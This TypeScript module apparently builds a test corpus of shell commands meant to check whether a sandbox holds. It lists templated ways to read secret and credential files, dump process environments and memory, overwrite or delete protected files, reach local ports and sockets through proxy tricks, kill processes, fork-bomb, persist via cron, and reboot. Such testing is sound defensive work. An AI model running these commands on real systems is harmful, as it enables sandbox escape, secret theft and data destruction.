/** Lines of a shell that try to leave a sandbox. Names in capitals are replaced by places of the machine that is attacked. */

/** Ways to show a file. */
const readers = [
  'cat FILE',
  'grep -R "" FILE',
  'head -c 1000 FILE',
  'tail -n +1 FILE',
  'sed -n p FILE',
  "awk '{print}' FILE",
  'od -c FILE',
  'xxd FILE',
  'base64 FILE',
  'rev FILE',
  'while read -r line; do echo "$line"; done < FILE',
  'cp FILE copy && cat copy',
  'ln FILE hard && cat hard',
  'ln -s FILE soft && cat soft',
  'mv FILE moved && cat moved',
  'dd if=FILE 2>/dev/null',
  'tar cf - FILE | tr -d "\\0"',
  'diff FILE /dev/null',
  "node -p \"require('fs').readFileSync('FILE','utf8')\"",
  "node -e \"require('child_process').spawnSync('cat',['FILE'],{stdio:'inherit'})\"",
  'perl -ne print FILE',
  'python3 -c "print(open(\'FILE\').read())"',
  'git diff --no-index /dev/null FILE',
  'cat $(printf %s FILE)',
  'eval "ca""t FILE"',
  'echo FILE | xargs cat',
  'find FILE -type f -exec cat {} +',
  'sh -c "exec 3<FILE; cat <&3"',
  'chmod 644 FILE; cat FILE',
  'umount FILE; cat FILE',
  'mount --bind FILE x; cat FILE',
  'unshare -Urm sh -c "umount FILE; cat FILE"',
  'cat /proc/self/root/ABSOLUTE',
  'cat /proc/1/root/ABSOLUTE',
  'cat /proc/self/cwd/NAME; cat ../*/NAME',
]

/** Ways to show everything that there is. */
const sweepers = [
  'grep -R "" .',
  'find . -type f | xargs cat',
  'for f in $(ls -A); do cat "$f"; done',
  'tar c . | tr -d "\\0"',
  'cat .* 2>/dev/null',
  'cat .e* ./*/../.e*',
  'find / -xdev -name ".env*" -exec cat {} + 2>/dev/null',
  'find / -xdev -newer /etc/hostname -type f -size -20k -name "*.key" -exec cat {} + 2>/dev/null',
  'grep -rs ZZSECRET /tmp /home /root /run /var/tmp',
  'cat /proc/*/environ | tr "\\0" "\\n"',
  'cat /proc/*/cmdline | tr "\\0" " "',
  'for p in /proc/[0-9]*; do ls -l $p/fd; cat $p/fd/* < /dev/null; done 2>/dev/null | head -c 10000',
  'env; set; export -p',
  'ls -la ~ /root /home; cat ~/.*rc ~/.*history',
  'git log -p --all 2>/dev/null; git stash list; git config --list',
  'strings /dev/mem /proc/kcore 2>/dev/null | head',
  'dmesg; cat /var/log/* 2>/dev/null | head -c 2000',
]

/** Ways to write a file. */
const writers = [
  'echo ZZATTACK > FILE',
  'echo ZZATTACK >> FILE',
  'echo ZZATTACK | tee FILE',
  'cp attack.txt FILE',
  'mv attack.txt FILE',
  'ln -sf /dev/null FILE',
  'rm -f FILE',
  'rm -rf $(dirname FILE)',
  'mv FILE FILE.away',
  'mv $(dirname FILE) away',
  'truncate -s 0 FILE',
  'dd if=/dev/zero of=FILE count=1',
  'sed -i s/./X/ FILE',
  'perl -pi -e s/./X/ FILE',
  'chmod 777 FILE',
  'touch -d 2001-01-01 FILE',
  "node -e \"require('fs').writeFileSync('FILE','ZZATTACK')\"",
  "python3 -c \"open('FILE','w').write('ZZATTACK')\"",
  'ln -s $(dirname FILE) link && echo ZZATTACK > link/NAME',
  'exec 3<>FILE; echo ZZATTACK >&3',
  'install -m 755 attack.txt FILE',
  'patch -s FILE < attack.txt',
  'tar cf a.tar attack.txt && tar xf a.tar -C $(dirname FILE)',
  'git init -q $(dirname FILE)/repo',
  'mkdir -p FILE.d && echo ZZATTACK > FILE.d/x',
  '(setsid sh -c "sleep 0.2; echo ZZATTACK > FILE" &)',
  'unshare -Urm sh -c "mount -o remount,rw / ; echo ZZATTACK > FILE"',
  'mount -o remount,rw,bind $(dirname FILE); echo ZZATTACK > FILE',
  'echo ZZATTACK > /proc/self/root/ABSOLUTE',
]

/** Ways to reach a port of the machine. */
const callers = [
  'curl -sm 2 http://127.0.0.1:PORT/',
  'curl -sm 2 --noproxy "*" http://127.0.0.1:PORT/',
  'curl -sm 2 --noproxy "" http://localhost:PORT/',
  'curl -sm 2 --noproxy "" http://127.1:PORT/',
  'curl -sm 2 --noproxy "" http://2130706433:PORT/',
  'curl -sm 2 --noproxy "" http://0.0.0.0:PORT/',
  'curl -sm 2 --noproxy "" "http://[::1]:PORT/"',
  'curl -sm 2 --noproxy "" "http://[::ffff:127.0.0.1]:PORT/"',
  'curl -sm 2 --socks5-hostname localhost:1080 http://127.0.0.1:PORT/',
  'curl -sm 2 -x "$HTTP_PROXY" http://127.0.0.1:PORT/',
  'curl -sm 2 -x "$HTTP_PROXY" -p http://127.0.0.1:PORT/',
  'printf "CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: registry.npmjs.org\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n" | socat -t2 - TCP:localhost:3128',
  'echo "GET / HTTP/1.0" | timeout 2 socat - TCP:127.0.0.1:PORT',
  'bash -c "echo GET / > /dev/tcp/127.0.0.1/PORT"',
  'node -e "fetch(\'http://127.0.0.1:PORT/\').catch(()=>{})"',
  "node -e \"require('net').connect(PORT,'127.0.0.1').on('error',()=>{}).end('GET / HTTP/1.0\\r\\n\\r\\n')\"",
  "python3 -c \"import socket;socket.create_connection(('127.0.0.1',PORT),2).send(b'GET / HTTP/1.0')\"",
  'wget -qT2 -t1 -O- http://127.0.0.1:PORT/',
  'git ls-remote http://127.0.0.1:PORT/x.git',
  'npm view x --registry http://127.0.0.1:PORT/ --fetch-retries 0 --fetch-timeout 1000',
  'nsenter -t 1 -n curl -sm 2 http://127.0.0.1:PORT/',
  'unshare -Urn sh -c "ip link set lo up; curl -sm 2 http://127.0.0.1:PORT/"',
  'curl -sm 2 --unix-socket SOCKET http://x/',
  "python3 -c \"import socket;s=socket.socket(socket.AF_UNIX);s.connect('SOCKET');s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\"",
  'socat - UNIX-CONNECT:SOCKET < attack.txt',
  'for s in $(find / -type s 2>/dev/null); do curl -sm 1 --unix-socket $s http://x/; done',
]

/** Ways to reach processes of the machine, or to outlive the command. */
const meddlers = [
  'kill -9 VICTIM',
  'kill -9 -1',
  'kill -STOP VICTIM',
  'pkill -9 sleep',
  'python3 -c "import os;os.kill(VICTIM,9)"',
  'echo x > /proc/VICTIM/mem',
  'cat /proc/VICTIM/environ /proc/VICTIM/maps',
  'gdb -p VICTIM -batch 2>/dev/null',
  'strace -p VICTIM 2>/dev/null & sleep 0.2',
  'renice -n 19 VICTIM; ionice -c3 -p VICTIM',
  'setsid sh -c "sleep 300 # ZZLEFT" &',
  '(setsid nohup sh -c "sleep 300 # ZZLEFT" > /dev/null 2>&1 &)',
  "node -e \"require('child_process').spawn('sh',['-c','sleep 300 # ZZLEFT'],{detached:true,stdio:'ignore'}).unref()\"",
  'python3 -c "import os,time;os.fork() or os.setsid() or os.fork() or time.sleep(300)" # ZZLEFT',
  'f() { f | f & }; timeout 1 sh -c "f() { f | f & }; f"; true',
  'i=0; while [ $i -lt 300 ]; do sleep 30 & i=$((i+1)); done; true',
  'crontab -l; echo "* * * * * touch OUTSIDE/cron" | crontab -',
  'at now < attack.txt; systemd-run touch OUTSIDE/systemd',
  'echo c > /proc/sysrq-trigger; echo ZZATTACK > /proc/sys/kernel/core_pattern',
  'mknod disk b 8 0 && cat disk | head -c 100; ls /dev/sd* /dev/vd* /dev/nvme*',
  'chroot / sh -c "echo ZZATTACK > OUTSIDE/chroot"',
  'su -c "echo ZZATTACK > OUTSIDE/su"; sudo -n sh -c "echo ZZATTACK > OUTSIDE/sudo"',
  'insmod x.ko; modprobe dummy; sysctl -w kernel.hostname=ZZATTACK; hostname ZZATTACK',
  'date -s 2001-01-01; reboot -f; shutdown now',
]

export interface Places {
  /** A secret file of the root, with its value. */
  readonly secrets: readonly string[]
  /** Secret files outside of the root. */
  readonly outsideSecrets: readonly string[]
  /** Files outside of the root, and those inside that programs obey. */
  readonly kept: readonly string[]
  readonly outside: string
  readonly port: number
  readonly socket: string
  readonly victim: number
}

/** All lines for a machine, in one fixed order. */
export function attacks(places: Places): readonly string[] {
  const { secrets, outsideSecrets, kept, outside, port, socket, victim } = places
  const at = (line: string, file: string) =>
    line
      .replaceAll('ABSOLUTE', file.replace(/^\//, ''))
      .replaceAll('FILE', file)
      .replaceAll('NAME', file.slice(file.lastIndexOf('/') + 1))
  const lines = [
    ...[...secrets, ...outsideSecrets].flatMap((file) => readers.map((line) => at(line, file))),
    ...sweepers,
    ...kept.flatMap((file) => writers.map((line) => at(line, file))),
    ...callers,
    ...meddlers,
  ]
  return lines.map((line) =>
    line
      .replaceAll('PORT', String(port))
      .replaceAll('SOCKET', socket)
      .replaceAll('VICTIM', String(victim))
      .replaceAll('OUTSIDE', outside),
  )
}
